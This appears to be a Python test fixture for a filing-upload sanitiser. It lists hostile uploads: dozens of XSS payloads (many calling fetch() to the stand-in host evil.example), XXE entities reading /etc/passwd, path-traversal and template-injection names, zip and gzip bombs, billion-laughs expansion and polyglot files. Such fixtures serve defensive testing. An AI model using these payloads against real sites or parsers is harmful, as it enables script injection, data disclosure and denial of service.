"""Uploads of people who mean harm, made here: each by its name, with the file name and the bytes.

`ALIVE` are documents that can be read and must come out harmless. `REFUSED` are files that must be refused,
or checked without harm, within the limits of time and memory. Every reference leads to `evil.example`.
"""

from __future__ import annotations

import gzip
import zipfile
from io import BytesIO

from tests.checker.checker_fakes import page_of
from tests.review.review_fakes import TABLES

EVIL = "https://evil.example/x"
SCRIPT = "window.top.hacked=1;fetch('https://evil.example/x')"


def _around(extra: str, head: str = "", body: str = "") -> bytes:
    page = page_of(*TABLES).decode()
    page = page.replace("<html>", f"<html><head><title>Annual report</title>{head}</head>", 1)
    return page.replace("<body>", f"<body {body}>{extra}", 1).encode()


def _in_cell(extra: str) -> bytes:
    return page_of(*TABLES).replace(b"<td>Net income</td>", f"<td>Net income{extra}</td>".encode())


# What stands in a document, in every place that HTML allows.
_MARKUP = {
    "script": f"<script>{SCRIPT}</script>",
    "script from elsewhere": f"<script src='{EVIL}.js'></script>",
    "script module": f"<script type=module>import '{EVIL}.js'</script>",
    "script in mixed case": f"<ScRiPt>{SCRIPT}</sCrIpT>",
    "script nested": f"<scr<script></script>ipt>{SCRIPT}</script>",
    "script in a comment": f"<!--><script>{SCRIPT}</script>-->",
    "script in a conditional comment": f"<!--[if gte IE 4]><script>{SCRIPT}</script><![endif]-->",
    "script in noscript": f"<noscript><p title='</noscript><img src=x onerror={SCRIPT}>'></noscript>",
    "script in a template": f"<template><script>{SCRIPT}</script></template>",
    "script in a title": f'<title><img src=x onerror="{SCRIPT}"></title>',
    "script in a textarea": f"<textarea></textarea><script>{SCRIPT}</script>",
    "script in CDATA": f"<![CDATA[<script>{SCRIPT}</script>]]>",
    "script after a null": f"<scr\0ipt>{SCRIPT}</scr\0ipt>",
    "picture with a handler": f'<img src=x onerror="{SCRIPT}">',
    "picture with a slash": f"<img/src=x/onerror={SCRIPT}>",
    "picture from elsewhere": f"<img src='{EVIL}.png' srcset='{EVIL}.png 2x'>",
    "picture as data of a page": "<img src='data:text/html,<script>top.hacked=1</script>'>",
    "picture as SVG data": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "handlers of a body": f'<body onload="{SCRIPT}" onhashchange="{SCRIPT}">',
    "handler of a details": f'<details open ontoggle="{SCRIPT}">x</details>',
    "handler with autofocus": f'<input autofocus onfocus="{SCRIPT}"><select autofocus onfocus="{SCRIPT}">',
    "handler of a marquee": f'<marquee onstart="{SCRIPT}">x</marquee>',
    "handler of an animation": f"<p style='animation:x 1s' onanimationstart=\"{SCRIPT}\">x</p>",
    "svg with script": f"<svg><script>{SCRIPT}</script></svg>",
    "svg with onload": f'<svg/onload="{SCRIPT}">',
    "svg with a link": f"<svg><a xlink:href='javascript:{SCRIPT}'><text x=20 y=20>x</text></a></svg>",
    "svg with use": f"<svg><use href='{EVIL}.svg#x'/></svg>",
    "svg with a foreign object": f"<svg><foreignObject><iframe src='javascript:{SCRIPT}'></iframe></foreignObject></svg>",
    "svg with a moving link": f"<svg><a><animate attributeName=href values='javascript:{SCRIPT}'/></a></svg>",
    "mathematics with a link": f"<math href='javascript:{SCRIPT}'><mi xlink:href='javascript:{SCRIPT}'>x</mi></math>",
    "mathematics that mutates": f'<math><mtext><table><mglyph><style><img src=x onerror="{SCRIPT}"></style></mglyph></table></mtext></math>',
    "link with script": f"<a href='javascript:{SCRIPT}'>x</a>",
    "link with script and white space": f"<a href='java\tscript:{SCRIPT}'>x</a><a href=' &#1;javascript:{SCRIPT}'>x</a>",
    "link with data": "<a href='data:text/html,<script>top.hacked=1</script>'>x</a>",
    "link with vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "link elsewhere": f"<a href='{EVIL}' target=_top ping='{EVIL}'>x</a>",
    "form": f"<form action='{EVIL}'><input name=a value=b><button formaction='javascript:{SCRIPT}'>x</button></form>",
    "frame": f"<iframe src='{EVIL}' srcdoc='<script>{SCRIPT}</script>'></iframe>",
    "object and embed": f"<object data='{EVIL}'></object><embed src='{EVIL}'><applet code='{EVIL}'></applet>",
    "sound and film": f"<video src='{EVIL}' poster='{EVIL}' onerror=\"{SCRIPT}\"></video><audio src='{EVIL}'></audio>",
    "portal and fenced frame": f"<portal src='{EVIL}'></portal><fencedframe></fencedframe>",
    "style that loads": f"<style>@import url('{EVIL}.css'); td{{background:url({EVIL}.png)}}</style>",
    "style that loads by escape": f"<style>@\\69mport '{EVIL}.css'; td{{background:\\75rl({EVIL}.png)}}</style>",
    "style with a font": f"<style>@font-face{{font-family:x;src:url({EVIL}.woff)}}</style>",
    "style that ends early": f"<style>p{{}}</style><script>{SCRIPT}</script><style></style>",
    "style of a cell that loads": f"<p style=\"background:url('{EVIL}.png')\">x</p>",
    "style of a cell by escape": f"<p style=\"background:u\\72l('{EVIL}.png')\">x</p>",
    "style with an expression": f'<p style="width:expression({SCRIPT});behavior:url({EVIL})">x</p>',
    "style that covers the page": "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Sign in again</div>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "base": f"<base href='{EVIL}/' target=_top>",
    "policy of its own": "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "links that load": f"<link rel=stylesheet href='{EVIL}.css'><link rel=prefetch href='{EVIL}'><link rel=dns-prefetch href='//evil.example'>",
    "names that shadow": "<form name=body><input name=parentNode></form><img name=cookie><a id=m0 name=m0>x</a>",
    "xml processing": f"<?xml-stylesheet href='{EVIL}.xsl' type='text/xsl'?>",
    "xbrl with script": f"<ix:nonNumeric name='a:b' onclick=\"{SCRIPT}\"><script>{SCRIPT}</script></ix:nonNumeric>",
    "unknown tags": f'<x-evil onclick="{SCRIPT}">x</x-evil><isindex type=image src=\'{EVIL}\' onerror="{SCRIPT}">',
}

ALIVE: dict[str, tuple[str, bytes]] = {
    **{name: ("filing.htm", _around(markup)) for name, markup in _MARKUP.items()},
    **{
        f"{name}, in a cell": ("filing.htm", _in_cell(_MARKUP[name]))
        for name in ("picture with a handler", "svg with onload", "style that loads", "frame")
    },
    "script in the head": ("filing.htm", _around("", head=_MARKUP["script"] + _MARKUP["base"])),
    "handler of the body": ("filing.htm", _around("", body=f'onload="{SCRIPT}" background="{EVIL}.png"')),
    "another encoding": (
        "filing.htm",
        b"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-" + page_of(*TABLES),
    ),
    "an entity that loads": (
        "filing.xhtml",
        f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "{EVIL}">]>'.encode()
        + page_of(*TABLES, words="&x;&y;"),
    ),
    "names of paths": ("..%2f..%2f\\..\\etc/cron.d/evil.htm", page_of(*TABLES)),
    "a name with markup": ('<img src=x onerror="top.hacked=1">.htm', page_of(*TABLES)),
    "templates of ours": ("filing.htm", _in_cell("{{ 7*7 }}{% raw %}<%= 7*7 %>${7*7}")),
}


def _zip(name: str, content: bytes) -> bytes:
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return stream.getvalue()


def _entities() -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE html [<!ENTITY l0 "ha">{levels}]><html><body>&l9;</body></html>'.encode()


def _spans(rows: int, columns: int) -> bytes:
    wide = f"<td rowspan={rows} colspan={columns}>x</td>"
    return page_of(*TABLES, words="").replace(b"<td>Net income</td>", wide.encode())


REFUSED: dict[str, tuple[str, bytes]] = {
    "gzip bomb": ("bomb.htm.gz", gzip.compress(bytes(80_000_000))),
    "gzip bomb twice": ("bomb.htm.gz", gzip.compress(gzip.compress(bytes(60_000_000)))),
    "gzip cut short": ("cut.htm.gz", gzip.compress(page_of(*TABLES))[:-20]),
    "zip bomb named as a page": ("bomb.htm", _zip("a.htm", bytes(50_000_000))),
    "zip with a path": ("path.htm", _zip("../../etc/passwd", b"x")),
    "program named as a page": ("program.htm", b"MZ\x90\x00" + bytes(5000)),
    "picture and page": ("both.htm", b"\x89PNG\r\n\x1a\n" + page_of(*TABLES)),
    "pdf and page": ("both.htm", b"%PDF-1.7\n" + _around(_MARKUP["script"])),
    "picture of the gif kind and script": ("both.htm", b"GIF89a=1;" + SCRIPT.encode()),
    "script that never ends": ("open.htm", _around(f"<script>{SCRIPT}<p>after</p>")),
    "nothing but nulls": ("null.htm", bytes(100_000)),
    "noise": ("noise.htm", bytes(range(256)) * 400),
    "entities that grow": ("laughs.xhtml", _entities()),
    "spans of a million": ("spans.htm", _spans(1_000_000, 1_000_000)),
    "spans below nought": ("spans.htm", _spans(-5, -5)),
    "deeply nested tables": ("deep.htm", b"<table><tr><td>" * 3000 + b"1" + page_of(*TABLES)),
    "deeply nested elements": ("deep.htm", b"<div>" * 50_000 + page_of(*TABLES)),
    "one attribute of a megabyte": (
        "long.htm",
        page_of(*TABLES).replace(b"<td>", b"<td title='" + b"x" * 10**6 + b"'>", 1),
    ),
    "a number of a million digits": (
        "digits.htm",
        page_of((("Net income", "9" * 10**6, "1"), ("Net income", "2", "1"))),
    ),
    "a label of a megabyte": (
        "label.htm",
        page_of((("x" * 10**6, "4,871", "4,508"),), (("x" * 10**6, "4,817", "4,508"),)),
    ),
    "lone surrogates": (
        "half.htm",
        page_of(*TABLES, words="\ud800\udfff".encode("utf-8", "surrogatepass").decode("latin-1")),
    ),
}
